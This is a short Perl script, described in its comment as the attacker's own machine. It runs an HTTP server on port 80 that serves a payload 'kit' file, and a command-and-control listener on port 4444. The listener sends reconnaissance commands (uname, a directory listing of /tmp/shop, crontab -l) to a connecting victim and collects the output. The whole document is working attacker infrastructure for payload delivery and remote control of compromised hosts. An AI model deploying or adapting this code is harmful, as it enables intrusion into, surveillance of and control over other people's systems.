# The attacker's own machine: gives out the kit, takes what it finds, and gives it orders.
use IO::Socket::INET;
my @orders = ("uname -a\n", "ls -la /tmp/shop\n", "crontab -l\n");
if (fork) {
    my $web = IO::Socket::INET->new(LocalAddr => '203.0.113.66', LocalPort => 80, Listen => 4,
        ReuseAddr => 1) or die;
    while (my $client = $web->accept) {
        while (my $line = <$client>) { last if $line =~ /^\r?$/ }
        open(my $kit, '<', $ARGV[0]) or die;
        my $body = join '', <$kit>;
        print $client "HTTP/1.0 200 OK\r\nContent-Length: ", length $body, "\r\n\r\n", $body;
        close $client;
    }
} else {
    my $c2 = IO::Socket::INET->new(LocalAddr => '203.0.113.66', LocalPort => 4444, Listen => 4,
        ReuseAddr => 1) or die;
    my $client = $c2->accept or exit 1;
    $client->autoflush(1);
    for my $order (@orders) { select(undef, undef, undef, 0.4); print $client $order }
    while (sysread $client, my $data, 4096) { }
}
